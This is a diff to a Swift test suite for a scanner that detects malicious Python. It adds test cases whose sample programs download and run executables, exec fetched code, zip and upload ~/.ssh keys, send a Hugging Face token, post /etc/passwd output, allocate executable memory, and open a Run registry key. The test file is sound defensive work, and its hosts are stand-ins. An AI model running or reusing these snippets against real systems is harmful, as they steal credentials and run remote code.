@@ -3,7 +3,7 @@ import Testing
 
 /// Programs that do harm. Their payloads are inert: hosts are below `example.invalid` (RFC 2606), which no name server knows.
 @Suite struct MaliciousPythonTests {
-    @Test(arguments: flows + commands + hidden + others)
+    @Test(arguments: flows + gathered + commands + hidden + others)
     func isFound(program: CodeCase) async {
         let findings = await program.findings()
         let worst = findings.filter { $0.rule.id == program.rule }.map(\.severity).max()
@@ -135,6 +135,38 @@ import Testing
             "what a command says of the user",
             "import subprocess, requests\nrequests.post('\(u)', data=subprocess.check_output(['whoami']))",
             "python-reconnaissance", .high),
+    ]
+
+    static let gathered: [CodeCase] = [
+        CodeCase(
+            "a file under an attribute's path that is fetched and run",
+            "import os, urllib.request\nclass A:\n  def __init__(self):\n    self.path = os.path.join(os.getenv('TEMP'), 'svc.exe')\n  def go(self):\n    with open(self.path, 'wb') as f:\n      f.write(urllib.request.urlopen('\(u)').read())\n    os.startfile(self.path)\nA().go()",
+            "python-downloader"),
+        CodeCase(
+            "fetched by an asynchronous client",
+            "import asyncio, aiohttp\nasync def main():\n  async with aiohttp.ClientSession() as s:\n    async with s.get('\(u)') as r:\n      exec(await r.text())\nasyncio.run(main())",
+            "python-downloader"),
+        CodeCase(
+            "keys in an archive that is sent",
+            "import glob, os, requests, zipfile\nz = zipfile.ZipFile('o.zip', 'w')\nfor f in glob.glob(os.path.expanduser('~/.ssh/*')): z.write(f)\nrequests.post('\(u)', files={'f': open('o.zip', 'rb')})",
+            "python-credential-theft", .high),
+        CodeCase(
+            "a token that a library gives",
+            "import requests\nfrom huggingface_hub import HfFolder\nrequests.post('\(u)', headers={'X': HfFolder.get_token()})",
+            "python-credential-theft"),
+        CodeCase(
+            "accounts by a command",
+            "import subprocess, requests\nrequests.post('\(u)', data=subprocess.getoutput('id; cat /etc/passwd'))",
+            "python-credential-theft"),
+        CodeCase("numbers that are run", "exec(bytes([112, 114, 105, 110, 116]).decode())", "python-decoded-execution"),
+        CodeCase(
+            "machine code in memory",
+            "import ctypes\np = ctypes.windll.kernel32.VirtualAlloc(0, 3, 0x3000, 0x40)\nctypes.windll.kernel32.CreateThread(0, 0, p, 0, 0, 0)",
+            "python-native-code"),
+        CodeCase(
+            "an entry of the registry",
+            "import winreg\nwinreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run')",
+            "python-persistence"),
     ]
 
     static let commands: [CodeCase] = [
